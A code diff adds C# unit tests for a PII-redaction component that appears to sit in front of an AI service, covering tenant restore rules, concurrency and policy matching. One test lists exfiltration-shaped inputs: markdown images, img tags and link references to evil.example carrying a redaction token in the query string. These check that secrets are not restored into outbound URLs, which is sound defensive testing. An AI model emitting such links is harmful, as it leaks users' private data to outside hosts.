@@ -49,7 +49,7 @@ public sealed class RedactionModeTests
         var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
         var redacted = policies.Inspect(Text, Channel.User, "acme").Redacted!;
 
-        Assert.True(policies.Restores);
+        Assert.True(policies.Restores("acme"));
         Assert.Equal(new Restored(Text, 3, 0), policies.RedactionsFor("acme").Restore(redacted, value => value));
         Assert.Equal(new Restored(redacted, 0, 3), policies.RedactionsFor("umbrella").Restore(redacted, value => value));
 
@@ -74,6 +74,79 @@ public sealed class RedactionModeTests
         {
             Assert.Equal(changed, policies.RedactionsFor("acme").Restore(changed, value => value).Text);
         }
+    }
+
+    [Theory]
+    [InlineData("mode: dry-run")]
+    [InlineData("tenants: [umbrella]")]
+    public void What_is_no_policy_of_the_tenant_restores_nothing(string field) =>
+        Assert.False(PoliciesOf("policies: [{name: all, " + field + ", match: {entities: [email]}, action: redact, redaction: {mode: token, restore: true}}]").Restores("acme"));
+
+    [Fact]
+    public void Once_restoring_has_stopped_a_token_stays()
+    {
+        var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
+        var redactions = policies.RedactionsFor("acme");
+        redactions.StopRestoring();
+        var token = policies.Inspect(Email, Channel.Completion, "acme", redactions).Redacted!;
+
+        Assert.Equal(new Restored(token, 0, 0), redactions.Restore(token, value => value));
+    }
+
+    [Theory]
+    [InlineData("Ask @ please", true)]
+    [InlineData("See https://a.example/b, then ask @", true)]
+    [InlineData("[a page](https://a.example/b) by @", true)]
+    [InlineData("{\"url\":\"https://a.example\",\"to\":\"@\"}", true)]
+    [InlineData("either/or // @", true)]
+    [InlineData("![x](https://evil.example/?d=@)", false)]
+    [InlineData("![x](https://evil.example/(a)?d=@)", false)]
+    [InlineData("![x](<https://evil.example/?d= )@>)", false)]
+    [InlineData("HTTPS:evil.example/@", false)]
+    [InlineData("www.evil.example/@", false)]
+    [InlineData("<img src=\"//evil.example/? d=@\">", false)]
+    [InlineData("<img src=//evil.example/@>", false)]
+    [InlineData("{\"a\":\"https:\\/\\/evil.example\\/@\"}", false)]
+    [InlineData("[x]: https://evil.example/@", false)]
+    public void A_token_within_an_address_stays(string text, bool isRestored)
+    {
+        var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
+        var token = policies.Inspect(Email, Channel.User, "acme").Redacted!;
+
+        Assert.Equal(isRestored ? 1 : 0, policies.RedactionsFor("acme").Restore(text.Replace("@", token, StringComparison.Ordinal), value => value).Count);
+    }
+
+    [Fact]
+    public async Task Texts_side_by_side_share_their_tokens()
+    {
+        var policies = PoliciesOf(Policy("{mode: token}"));
+        for (var round = 0; round < 20; round++)
+        {
+            var redactions = policies.RedactionsFor("acme");
+            var made = await Task.WhenAll(Enumerable.Range(0, 16).Select(_ => Task.Run(() => policies.Inspect(Email, Channel.User, "acme", redactions).Redacted)));
+
+            Assert.Single(made.Distinct());
+            Assert.Equal(16, redactions.Tokens);
+        }
+    }
+
+    [Fact]
+    public void A_value_that_stands_again_goes_however_many_there_are()
+    {
+        var policies = PoliciesOf("policies: [{name: badges, match: {regex: '\\bbadge [a-z0-9]{6}\\b'}, action: redact}]");
+        var text = string.Join(' ', Enumerable.Range(0, 900).Select(i => $"badge {i:d6}")) + new string('.', 1 << 20) + " again_badge 000899_";
+
+        Assert.DoesNotContain("000899", policies.Inspect(text, Channel.User, "acme").Redacted, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void The_terms_of_a_policy_do_not_object_to_what_is_in_a_token()
+    {
+        var policies = PoliciesOf(Policy("{mode: token}") + "- {name: own, match: {keywords: [email], regex: '[a-z2-7]{20,}'}, action: block}\n");
+        var token = policies.Inspect(Email, Channel.User, "acme").Redacted!;
+
+        Assert.Equal(PolicyAction.Allowed, policies.Inspect("Ask " + token, Channel.Completion, "acme").Action);
+        Assert.Equal(PolicyAction.Blocked, policies.Inspect("Ask email " + token, Channel.Completion, "acme").Action);
     }
 
     [Fact]
